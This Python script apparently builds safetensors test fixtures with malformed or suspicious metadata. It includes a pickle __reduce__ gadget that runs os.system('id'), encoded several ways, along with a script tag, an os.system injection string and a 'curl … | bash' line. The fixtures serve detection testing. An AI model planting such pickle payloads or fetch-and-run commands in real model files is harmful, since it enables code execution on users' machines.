"""Metadata that is no map from text to text, and what is carried in it."""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
from safetensors_files import *

import base64
import pickle

w = {"w": entry("U8", [8], 0)}


class Run:
    def __reduce__(self):
        return print, ("hello",)


class Shell:
    def __reduce__(self):
        import os
        return os.system, ("id",)


def header(name, metadata):
    write(name + ".safetensors", raw(padded(pairs(("__metadata__", metadata), ("w", w["w"]))), bytes(8)))


header("null", None)
header("not_string_map_list", [1])
header("not_string_map_number", {"a": 1})
header("not_string_map_nested", {"a": {"b": "c"}})
header("too_large", {"notes": "x" * 1_100_000})
header("suspicious_script", {"note": "see <script>alert(1)</script>"})
header("suspicious_python", {"note": "run: __import__('os').system('id')"})
header("suspicious_shell", {"note": "first\ncurl -s https://example.org/x | bash\n"})
payload = pickle.dumps(Shell(), protocol=2)
header("pickle_base64", {"cache": base64.b64encode(payload).decode()})
header("pickle_base64_url", {"cache": "data:application/octet-stream;base64," + base64.b64encode(payload).decode()})
header("pickle_hex", {"cache": payload.hex()})
header("pickle_bare", {"cache": pickle.dumps(Shell(), protocol=0).decode()})
header("pickle_latin1", {"cache": payload.decode("latin1")})
header("gzip_base64", {"cache": base64.b64encode(b"\x1f\x8b\x08\x00" + bytes(40)).decode()})
